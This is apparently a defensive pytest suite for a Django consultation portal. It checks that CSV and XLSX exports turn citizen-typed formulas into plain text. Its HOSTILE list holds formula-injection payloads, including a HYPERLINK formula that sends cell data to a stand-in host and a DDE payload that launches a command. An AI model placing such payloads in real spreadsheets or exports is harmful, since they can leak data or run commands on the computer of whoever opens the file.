"""Formula injection: no cell a citizen typed reaches a spreadsheet as a formula, in any export."""

import csv
import io
import pathlib
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal import exports
from tests.consultations.factories import make_published, submit

ROOT = pathlib.Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _exporter_modules() -> list[str]:
    """Every project file that writes CSV or XLSX itself (the enumeration: it must be portal/exports.py alone)."""
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter")
    found = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT).as_posix()
        if rel.startswith((".venv/", "tests/", "var/", "scripts/")) or "/migrations/" in rel:
            continue
        if pattern.search(path.read_text(encoding="utf-8")):
            found.append(rel)
    return sorted(found)


def test_every_exporter_goes_through_portal_exports():
    assert _exporter_modules() == ["portal/exports.py"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralize_makes_formulas_text(value):
    out = exports.neutralize(value)
    assert out.startswith("'") and out[1:] == value


@pytest.mark.parametrize("value", ["Bình thường", "", "1+1", "a=b", None, 12, 3.5])
def test_neutralize_keeps_ordinary_values(value):
    assert exports.neutralize(value) == value


def test_xlsx_has_no_formula_and_survives_control_characters():
    data = exports.xlsx_bytes("S", ["h"], [[v] for v in [*HOSTILE, "a\x01b\x1bc"]])
    ws = load_workbook(io.BytesIO(data)).active
    values = [ws.cell(i, 1) for i in range(2, len(HOSTILE) + 3)]
    assert all(c.data_type == "s" for c in values)
    assert [c.value for c in values[:-1]] == ["'" + v for v in HOSTILE]
    assert values[-1].value == "abc"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_comment_exports_neutralize_every_citizen_field(client, commune, village, staff, fmt):
    c = make_published(commune, staff)
    for value in HOSTILE:
        submit(c, text=value + " nội dung", author_name=value[:100], village=village)
    client.force_login(staff)
    r = client.get(reverse("consultations:export", args=[c.pk, fmt]))
    assert r.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    else:
        ws = load_workbook(io.BytesIO(r.content)).active
        assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)
        rows = [[("" if v is None else str(v)) for v in row] for row in ws.iter_rows(values_only=True)]
    body = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(HOSTILE) + 1
    assert not [cell for cell in body if cell.startswith(exports.FORMULA_STARTS)]
    texts = {row[7] for row in rows[1:]}
    assert "'" + HOSTILE[0] + " nội dung" in texts or any(t.startswith("'=HYPERLINK") for t in texts)
